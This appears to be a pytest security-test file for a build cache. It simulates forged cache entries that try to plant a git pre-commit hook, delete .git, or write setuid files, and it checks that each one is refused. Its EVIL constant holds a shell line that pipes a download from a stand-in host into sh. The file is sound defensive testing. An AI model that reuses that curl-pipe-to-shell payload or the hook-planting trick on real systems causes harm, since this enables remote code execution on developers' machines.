"""A hit touches only what the current request declares; modes are normalised.

Every attack is written as an attacker with write access to a cache tier and the source would do it: machine A
builds and publishes an honest entry, the attacker rewrites its evidence and recomputes the unkeyed
``diff_identity`` and ``result`` with the project's own functions, then a fresh machine B (whose workspace holds
a ``.git/`` and a ``.smthrs/``) dispatches the same node. Nothing outside the declaration may change (the whole
tree is hashed before and after, ``.git`` and ``.smthrs`` included), the decision names the refused path, and the
body runs exactly once.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from _cache_support import Machine, upper, upper_node

from smthrs_plugin.boundary import Declaration
from smthrs_plugin.boundary.evidence import Evidence, Output, diff_identity
from smthrs_plugin.boundary.replay import replay_outputs
from smthrs_plugin.boundary.sandbox import run_in_sandbox
from smthrs_plugin.cache import ReplayFailed, VerifiedHit
from smthrs_plugin.cache._serve import check_confined
from smthrs_plugin.cache.entry import CacheEntry, decode_entry, result_digest
from smthrs_plugin.canonical import canonical_bytes, key_digest
from smthrs_plugin.errors import ReplayError

Machines = Callable[..., Machine]

#: What machine B's workspace holds besides the node's read: a repository, smthrs' own state, a README.
B_FILES = {
    "in.txt": "hello\n",
    "README.md": "readme\n",
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/config": "[core]\n",
    ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
    ".smthrs/state.db": "not really a database\n",
}
EVIL = b"#!/bin/sh\ncurl https://evil.example | sh\n"


# -- the attacker's tools ----------------------------------------------------------------------------------------


def forge(
    doc: dict[str, Any],
    *,
    add_outputs: tuple[tuple[str, bytes, int], ...] = (),
    add_removals: tuple[str, ...] = (),
    modes: dict[str, int] | None = None,
) -> dict[str, Any]:
    """Rewrite an entry document's evidence and recompute ``diff_identity`` and ``result`` (both unkeyed)."""
    doc = json.loads(json.dumps(doc))
    ev = doc["evidence"]
    for path, data, mode in add_outputs:
        ev["outputs"].append(
            {
                "path": path,
                "digest": hashlib.sha256(data).hexdigest(),
                "size": len(data),
                "mode": mode,
                "inline": base64.b64encode(data).decode("ascii"),
            }
        )
    for o in ev["outputs"]:
        o["mode"] = (modes or {}).get(o["path"], o["mode"])
    ev["outputs"].sort(key=lambda o: o["path"])
    ev["removals"] = sorted({*ev["removals"], *add_removals})
    outs = [Output(o["path"], o["digest"], o["size"], o["mode"]) for o in ev["outputs"]]
    ev["diff_identity"] = diff_identity(outs, ev["removals"])
    doc["result"] = result_digest(canonical_bytes(doc["value"]), ev["diff_identity"])
    return doc


def publish_forged(m: Machine, name: str, doc: dict[str, Any]) -> None:
    """Replace the shared entry ``name`` behind every reader's back, re-signed with the publisher's own key: the
    attacker holds a TRUSTED key (a compromised CI machine), so signatures alone cannot stop this entry."""
    from smthrs_plugin.cache.shared import sign_document

    doc = {k: v for k, v in doc.items() if k != "signature"}
    entry = decode_entry(json.dumps(doc))
    assert isinstance(entry, CacheEntry), entry
    m.shared.delete_entry(name)
    m.shared.put_entry(name, sign_document(entry, m.dispatcher.trust))


def plant_local(m: Machine, name: str, doc: dict[str, Any]) -> None:
    """Replace the local row ``name`` (an attacker with write access to the database)."""
    doc = {k: v for k, v in doc.items() if k != "signature"}
    entry = decode_entry(json.dumps(doc), name=name)
    assert isinstance(entry, CacheEntry), entry
    m.db.write(lambda c: m.dispatcher.local.delete_in(c, name))
    m.db.write(lambda c: m.dispatcher.local.record_in(c, entry))


def snapshot(ws: Path, skip: tuple[str, ...] = ()) -> dict[str, tuple[Any, ...]]:
    """Every file, link and directory of the workspace (``.git`` and ``.smthrs`` included) with its bytes and
    mode; ``skip``: the declared outputs. The machinery's own scratch (``.smthrs/tmp``, the stat cache) is the
    only other thing left out."""
    out: dict[str, tuple[Any, ...]] = {}
    for p in sorted(ws.rglob("*")):
        rel = p.relative_to(ws).as_posix()
        if rel in skip or rel in (".smthrs/tmp", ".smthrs/statcache.json") or rel.startswith(".smthrs/tmp/"):
            continue
        st = p.lstat()
        if stat.S_ISLNK(st.st_mode):
            out[rel] = ("link", os.readlink(p))
        elif stat.S_ISDIR(st.st_mode):
            out[rel] = ("dir", stat.S_IMODE(st.st_mode))
        else:
            out[rel] = ("file", hashlib.sha256(p.read_bytes()).hexdigest(), stat.S_IMODE(st.st_mode))
    return out


def honest(machines: Machines) -> tuple[Machine, str, dict[str, Any]]:
    """Machine A builds and publishes the honest entry of ``upper`` (reads in.txt, writes out.txt): A, the
    shared entry's name, and its document."""
    a = machines("a", files={"in.txt": "hello\n"})
    built = a.dispatch(upper_node(), upper)
    assert built.outcome == "built" and built.published["shared"] == "published"
    name = a.entry_name(built.key)
    return a, name, json.loads(a.shared.get_entry(name) or b"")


# -- the attacks -------------------------------------------------------------------------------------------------

ATTACKS = {
    "git-hook": (
        {"add_outputs": ((".git/hooks/pre-commit", EVIL, 0o755),)},
        "reserved_path",
        ".git/hooks/pre-commit",
    ),
    "state-db": ({"add_outputs": ((".smthrs/state.db", b"x", 0o644),)}, "reserved_path", ".smthrs/state.db"),
    "remove-git": ({"add_removals": (".git/",)}, "reserved_path", ".git/"),
    "remove-own-read": ({"add_removals": ("in.txt",)}, "undeclared_removal", "in.txt"),
    "remove-readme": ({"add_removals": ("README.md",)}, "undeclared_removal", "README.md"),
    "undeclared-output": (
        {"add_outputs": (("bin/evil.sh", EVIL, 0o755),)},
        "undeclared_output",
        "bin/evil.sh",
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_forged_shared_entry_never_touches_anything_outside_the_declaration(
    machines: Machines, attack: str
) -> None:
    a, name, doc = honest(machines)
    change, code, path = ATTACKS[attack]
    publish_forged(a, name, forge(doc, **change))
    b = machines("b", files=B_FILES)
    before = snapshot(b.ws, skip=("out.txt",))

    res = b.dispatch(upper_node(), upper, run_id="r2")

    assert isinstance(res.decision, ReplayFailed), res.decision
    assert res.decision.code == code and path in res.decision.reason
    assert snapshot(b.ws, skip=("out.txt",)) == before
    assert b.calls["upper"] == 1 and res.value == {
        "length": 6
    }  # the body ran, the forged entry was not served
    assert (b.ws / "out.txt").read_text() == "HELLO\n"
    assert not (b.ws / ".git/hooks/pre-commit").exists()


def test_a_refused_shared_entry_is_replaced_by_the_honest_rebuild_and_a_third_machine_gets_a_clean_hit(
    machines: Machines,
) -> None:
    a, name, doc = honest(machines)
    publish_forged(a, name, forge(doc, add_outputs=((".git/hooks/pre-commit", EVIL, 0o755),)))
    b = machines("b", files=B_FILES)
    res = b.dispatch(upper_node(), upper, run_id="r2")
    assert res.outcome == "built", res.error
    assert isinstance(res.decision, ReplayFailed) and res.decision.code == "reserved_path"
    # Quarantine never blocks: the refusal is journaled and the honest result takes the forged entry's name.
    facts = b.provenance("r2")
    assert [f["reason"] for f in facts if f.get("action") == "refused"] == ["reserved-path"]
    assert [f["action"] for f in facts if f.get("action") == "replaced"] == ["replaced"]
    assert res.published["shared"] == "published"

    c = machines("c", files=B_FILES)
    served = c.dispatch(upper_node(), upper, run_id="r3")
    assert served.outcome == "clean" and served.decision == VerifiedHit("shared")
    assert c.calls["upper"] == 0 and not (c.ws / ".git/hooks/pre-commit").exists()


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_forged_local_row_is_refused_invalidated_and_rebuilt(machines: Machines, attack: str) -> None:
    a, shared_name, doc = honest(machines)
    name = key_digest(doc["key"])  # the local row's name
    change, code, path = ATTACKS[attack]
    for rel, text in B_FILES.items():
        if rel != "in.txt":
            a.write(rel, text)
    plant_local(a, name, forge(doc, **change))
    before = snapshot(a.ws, skip=("out.txt",))

    res = a.dispatch(upper_node(), upper, run_id="r2")

    assert (
        isinstance(res.decision, ReplayFailed) and res.decision.code == code and path in res.decision.reason
    )
    assert snapshot(a.ws, skip=("out.txt",)) == before
    assert res.outcome == "built" and a.calls["upper"] == 2  # once for the honest build, once now
    invalidated = [p for p in a.provenance("r2") if p.get("action") == "invalidated"]
    assert invalidated == [
        {"key": res.key, "node": "upper", "action": "invalidated", "reason": code.replace("_", "-")}
    ]
    again = a.dispatch(upper_node(), upper, run_id="r3")  # the honest rebuild is what is served now
    assert again.decision == VerifiedHit("local") and again.outcome == "clean" and a.calls["upper"] == 2


def test_an_honest_entry_is_still_served_clean_on_another_machine(machines: Machines) -> None:
    honest(machines)
    b = machines("b", files=B_FILES)
    before = snapshot(b.ws, skip=("out.txt",))
    res = b.dispatch(upper_node(), upper, run_id="r2")
    assert res.decision == VerifiedHit("shared") and res.outcome == "clean" and b.calls["upper"] == 0
    assert snapshot(b.ws, skip=("out.txt",)) == before
    assert (b.ws / "out.txt").read_text() == "HELLO\n"
    assert stat.S_IMODE((b.ws / "out.txt").stat().st_mode) == 0o644


@pytest.mark.parametrize("mode", [0o4755, 0o2755, 0o1755, 0o777, 0o666, 0o664])
def test_a_forged_mode_is_never_replayed(machines: Machines, mode: int) -> None:
    a, name, doc = honest(machines)
    # Evidence decoding refuses such a mode, so not even a trusted key can sign it through the project's code:
    # the attacker writes the document by hand (its signature no longer covers it either way).
    a.shared.delete_entry(name)
    a.shared.put_entry(name, json.dumps(forge(doc, modes={"out.txt": mode})).encode())
    b = machines("b", files=B_FILES)
    res = b.dispatch(upper_node(), upper, run_id="r2")
    assert not isinstance(res.decision, VerifiedHit) and res.outcome == "built"
    assert b.calls["upper"] == 1
    assert stat.S_IMODE((b.ws / "out.txt").stat().st_mode) == 0o644


# -- confinement rules, one at a time ----------------------------------------------------------------------------


def _ev(outputs: tuple[str, ...] = (), removals: tuple[str, ...] = ()) -> Evidence:
    digest = hashlib.sha256(b"x").hexdigest()
    outs = tuple(Output(p, digest, 1, 0o644, b"x") for p in sorted(outputs))
    return Evidence(outs, tuple(sorted(removals)), diff_identity(outs, removals))


def _refusal(ev: Evidence, decl: Declaration, ws: Path | None = None) -> tuple[str, str] | None:
    err = check_confined(ev, decl, ws)
    return None if err is None else (err.code, str(err.details.get("path")))


def test_honest_settles_are_confined_to_their_own_declaration() -> None:
    decl = Declaration.of(
        reads=["src/a.py"], writes=["dist/", "out.txt", "gen/*.c"], removes=["tmp/", "old.txt"]
    )
    ev = _ev(
        outputs=("dist/x/y.bin", "out.txt", "gen/a.c"),
        removals=("tmp/", "old.txt", "dist/stale.bin", "gen/gone.c"),
    )
    assert _refusal(ev, decl) is None


@pytest.mark.parametrize(
    ("outputs", "removals", "want"),
    [
        (("gen/sub/a.c",), (), ("undeclared_output", "gen/sub/a.c")),  # '*' stays in one segment
        (("distx/y",), (), ("undeclared_output", "distx/y")),  # a tree is a directory, not a name prefix
        ((), ("gen/",), ("undeclared_removal", "gen/")),  # a tree removal needs a declared tree
        ((), ("dist/../x",), ("boundary_corruption", "dist/../x")),
        ((), ("src/",), ("undeclared_removal", "src/")),
        (("/etc/passwd",), (), ("boundary_corruption", "/etc/passwd")),
        ((".venv/bin/python",), (), ("reserved_path", ".venv/bin/python")),
    ],
)
def test_an_unconfined_output_or_removal_is_named(
    outputs: tuple[str, ...], removals: tuple[str, ...], want: tuple[str, str]
) -> None:
    decl = Declaration.of(reads=["src/a.py"], writes=["dist/", "out.txt", "gen/*.c"], removes=["tmp/"])
    outs = tuple(Output(p, hashlib.sha256(b"x").hexdigest(), 1, 0o644, b"x") for p in outputs)
    ev = Evidence(outs, removals, diff_identity(outs, removals))
    assert _refusal(ev, decl) == want


def test_a_removal_never_deletes_a_declared_read_or_a_directory_the_declaration_does_not_cover(
    tmp_path: Path,
) -> None:
    # writes '*' covers the top-level FILE 'src', so an honest settle could record its deletion; on this
    # workspace 'src' is a directory holding the step's own read.
    (tmp_path / "src").mkdir()
    (tmp_path / "src/a.py").write_text("x")
    (tmp_path / "docs").mkdir()
    decl = Declaration.of(reads=["src/a.py"], writes=["*"])
    assert _refusal(_ev(removals=("src",)), decl) == ("undeclared_removal", "src")
    assert _refusal(_ev(removals=("docs",)), decl) is None  # pure check: nothing says it is a directory
    assert _refusal(_ev(removals=("docs",)), decl, tmp_path) == ("undeclared_removal", "docs")
    # declaring the read removed makes its removal legitimate (read it, then delete it)
    consume = Declaration.of(reads=["inbox/m.json"], writes=["out.txt"], removes=["inbox/m.json"])
    assert _refusal(_ev(removals=("inbox/m.json",)), consume) is None


# -- replay and copy-back: defence in depth ----------------------------------------------------------------------


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".smthrs/state.db", ".venv/bin/python"])
def test_replay_refuses_a_reserved_output_whoever_calls_it(tmp_path: Path, path: str) -> None:
    (tmp_path / ".git").mkdir()
    before = snapshot(tmp_path)
    with pytest.raises(ReplayError) as caught:
        replay_outputs(tmp_path, _ev(outputs=(path,)), None)
    assert caught.value.code == "reserved_path" and path in caught.value.message
    assert snapshot(tmp_path) == before


def test_replay_refuses_a_reserved_removal_and_a_link_into_a_reserved_directory(tmp_path: Path) -> None:
    (tmp_path / ".git/hooks").mkdir(parents=True)
    (tmp_path / "hooks").symlink_to(".git/hooks")
    before = snapshot(tmp_path)
    for ev in (_ev(removals=(".git/",)), _ev(removals=(".git",)), _ev(outputs=("hooks/pre-commit",))):
        with pytest.raises(ReplayError) as caught:
            replay_outputs(tmp_path, ev, None)
        assert caught.value.code == "reserved_path"
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize(
    ("recorded", "replayed"), [(0o4755, 0o755), (0o777, 0o755), (0o666, 0o644), (0o600, 0o644)]
)
def test_replay_writes_only_0644_or_0755(tmp_path: Path, recorded: int, replayed: int) -> None:
    digest = hashlib.sha256(b"x").hexdigest()
    outs = (Output("bin/tool", digest, 1, recorded, b"x"),)
    replay_outputs(tmp_path, Evidence(outs, (), diff_identity(outs, ())), None)
    assert stat.S_IMODE((tmp_path / "bin/tool").stat().st_mode) == replayed


@pytest.mark.parametrize(
    ("left", "copied"), [(0o4755, 0o755), (0o2775, 0o755), (0o666, 0o644), (0o604, 0o644)]
)
def test_copy_back_never_carries_setuid_or_group_world_writable_bits(
    tmp_path: Path, left: int, copied: int
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "in.txt").write_text("x")

    def body(root: Path) -> None:
        (root / "out.bin").write_bytes(b"payload")
        os.chmod(root / "out.bin", left)

    res = run_in_sandbox(
        ws, Declaration.of(reads=["in.txt"], writes=["out.bin"]), body, artifacts=None, temp_dir=tmp_path
    )
    assert [o.mode for o in res.evidence.outputs] == [copied]  # recorded normalised: stable diff identity
    assert stat.S_IMODE((ws / "out.bin").stat().st_mode) == copied


def test_evidence_decoding_refuses_a_mode_no_honest_settle_records() -> None:
    doc = _ev(outputs=("a",)).to_json()
    doc["outputs"][0]["mode"] = 0o4755
    doc["diff_identity"] = diff_identity([Output("a", doc["outputs"][0]["digest"], 1, 0o4755)], [])
    with pytest.raises(ReplayError) as caught:
        Evidence.from_json(doc)
    assert caught.value.code == "boundary_corruption" and "0o4755" in caught.value.message
